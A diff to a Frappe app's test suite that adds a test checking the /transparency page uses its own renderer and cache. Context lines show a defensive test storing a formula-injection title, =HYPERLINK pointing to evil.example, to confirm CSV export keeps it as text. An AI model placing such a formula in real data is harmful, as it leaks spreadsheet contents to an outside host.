@@ -179,6 +179,25 @@ class TestPublicOutputsCannotBeTampered(FrappeTestCase):
 		f.rest("POST", "/transparency", data={"donor": "Donor A _test"})
 		self.assertNotIn('value="Donor A _test" selected', f.rest("GET", "/transparency").get_data(as_text=True))
 
+	def test_the_page_has_its_own_renderer_and_other_paths_are_left_to_frappe(self):
+		from frappe.website.path_resolver import PathResolver
+		from frappe.website.page_renderers.template_page import TemplatePage
+
+		from ta_programmes.transparency.web import TransparencyPage
+
+		_endpoint, page = PathResolver("/transparency").resolve()
+		self.assertIsInstance(page, TransparencyPage)
+		self.assertTrue(page.template_path.endswith("www/transparency.html"))
+		_endpoint, other = PathResolver("/report-concern").resolve()
+		self.assertNotIsInstance(other, TransparencyPage)
+		self.assertIsInstance(other, TemplatePage)
+		T.clear_public_cache()
+		frappe.db.commit()
+		for _ in range(2):  # stored, then served from Frappe's page cache: the same page
+			response = f.rest("GET", "/transparency")
+			self.assertEqual(response.status_code, 200)
+			self.assertIn('id="results"', response.get_data(as_text=True))
+
 	def test_a_title_that_looks_like_a_formula_is_text_in_the_csv(self):
 		frappe.db.set_value("TA Programme", self.funded, "title_fr", '=HYPERLINK("http://evil.example/?"&A1,"x")')
 		frappe.db.commit()
